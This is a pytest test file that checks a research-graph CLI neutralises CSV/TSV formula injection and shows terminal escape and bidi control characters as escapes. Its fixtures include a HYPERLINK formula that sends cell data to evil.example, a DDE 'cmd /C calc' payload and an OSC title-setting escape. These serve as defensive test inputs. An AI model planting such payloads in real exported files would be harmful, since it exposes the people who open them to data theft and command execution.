"""Record text in text outputs (issue 27 F5, F16).

F5: a CSV/TSV cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by spreadsheets (OWASP "CSV Injection"); every CSV and TSV writer now writes it with a
leading apostrophe, numbers as they are. F16: ESC/CSI, ``\\r`` and Unicode bidi controls in record
text reach the terminal as escapes (``\\x1b``, ``\\u202e``) in ``diff``, CSV, ``triage`` and
``explain`` output, and a tab or newline cannot forge a column or a row of a TSV line.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from fake_eutils import FakeEutils, serve

from ldngraph.cli import main
from ldngraph.safetext import spreadsheet_cell

RES = Path(__file__).parent / "resources"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RAW_CONTROLS = ("\x1b", "\x9b", "\u202e", "\r")


def _copy(tmp_path: Path, name: str = "mini") -> Path:
    target = tmp_path / "data"
    shutil.copytree(RES / name, target)
    return target


def _edit(data: Path, name: str, old: str, new: str) -> None:
    path = data / name
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    try:
        main(args)
    except SystemExit as exc:
        assert not exc.code, capsys.readouterr().err
    return capsys.readouterr().out


def _cache(data: Path, pmid: str, title: str) -> None:
    (data / "pubmed").mkdir(exist_ok=True)
    record = {"pmid": pmid, "title": title, "year": 2020}
    payload = {"format": 1, "source": "efetch", "record": record}
    (data / "pubmed" / f"{pmid}.json").write_text(json.dumps(payload), encoding="utf-8")


# -- F5: formula injection --------------------------------------------------------------------------


def test_query_csv_neutralises_a_title_fetched_from_pubmed(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path)
    _cache(data, "333", HYPERLINK)  # PubMed's title fills the empty one of an unresolved PMID
    out = _run(["query", "publications_by_status", "--data", str(data), "--format", "csv"], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    titles = [r["title"] for r in rows if r["publication"] == "PMID 333"]
    assert titles == ["'" + HYPERLINK], rows


def test_query_csv_neutralises_labels_and_keeps_numbers(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path)
    _edit(data, "entities.yaml", "label: fibromyalgia", "label: \"@SUM(1+1)*cmd|' /C calc'!A0\"")
    out = _run(["query", "claims_by_strength", "--data", str(data), "--format", "csv"], capsys)
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    bad = [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _number(c)]
    assert not bad, bad


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_sof_csv_neutralises_record_text(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path, "effects")
    _edit(data, "entities.yaml", "label: pain", "label: '=1+2'")
    out = _run(["sof", "--data", str(data), "--condition", "fibromyalgia", "--format", "csv"], capsys)
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'=1+2" in cells and "=1+2" not in cells


def test_evidence_map_tsv_neutralises_and_cannot_forge_columns(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path)
    _edit(data, "entities.yaml", "label: fibromyalgia", 'label: "-2+3\\tforged\\nRCT\\tstudies=99"')
    out = _run(["plot", "evidence-map", "--data", str(data), "-o", str(tmp_path / "m.svg")], capsys)
    lines = out.splitlines()
    assert len(lines) == 2, lines  # one line per cell, however the label is written
    assert all(line.count("\t") == 4 for line in lines), lines
    assert all(line.startswith("'-2+3\\tforged\\nRCT\\tstudies=99\t") for line in lines), lines


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+2", "'=1+2"), ("+1-", "'+1-"), ("-2+3", "'-2+3"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx")],
)
def test_formula_starts_get_an_apostrophe(value: str, shown: str) -> None:
    assert spreadsheet_cell(value) == shown


@pytest.mark.parametrize("value", ["-0.34", "+1", "1e-3", "pain", "", 0.5, -2, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


# -- F16: terminal escapes and forged rows ----------------------------------------------------------


def test_explain_shows_bidi_controls_as_escapes(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path)
    text = (data / "claims.yaml").read_text(encoding="utf-8")
    claim = text.split("id: ", 1)[1].split("\n", 1)[0].strip()
    _edit(data, "claims.yaml", "statement: ", 'statement: "evil \\u202e\\u2066 text" # ')
    out = _run(["explain", claim, "--data", str(data)], capsys)
    assert not any(c in out for c in RAW_CONTROLS), repr(out)
    assert "evil \\u202e\\u2066 text" in out


def test_diff_shows_escapes_in_names_and_text(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    old = tmp_path / "old.ttl"
    _run(["build", "--data", str(RES / "mini"), "-o", str(old), "--no-validate"], capsys)
    new = tmp_path / "new\x1b]0;pwned\x07\u202e\r.ttl"
    new.write_bytes(old.read_bytes())
    out = _run(["diff", str(old), str(new)], capsys)
    assert not any(c in out for c in (*RAW_CONTROLS, "\x07")), repr(out)
    assert "new\\x1b]0;pwned\\x07\\u202e\\r.ttl" in out and "no differences" in out


def test_query_csv_shows_controls_as_escapes(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    data = _copy(tmp_path)
    _edit(data, "entities.yaml", "label: fibromyalgia", 'label: "fibro\\u202emyalgia\\u200f"')
    out = _run(["query", "claims_by_strength", "--data", str(data), "--format", "csv"], capsys)
    assert "\u202e" not in out and "\u200f" not in out
    assert "fibro\\u202emyalgia\\u200f" in out


@pytest.fixture
def eutils() -> Iterator[FakeEutils]:
    state = FakeEutils()
    state.add(["901"])
    state.searches["ldn"] = ["901"]
    with serve(state) as running:
        yield running


def test_triage_shows_controls_in_titles_as_escapes(
    eutils: FakeEutils, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("NCBI_EMAIL", "test@example.org")
    monkeypatch.setenv("LDNGRAPH_CONFIG", str(tmp_path / "none.toml"))
    data = _copy(tmp_path)
    _cache(data, "901", "Fake \x9b2J\u202e title\r")  # a C1 CSI is allowed in XML 1.0
    out = _run(["triage", "--query", "ldn", "--data", str(data), "--base-url", eutils.url], capsys)
    assert not any(c in out for c in RAW_CONTROLS), repr(out)
    assert "Fake \\x9b2J\\u202e title\\r" in out
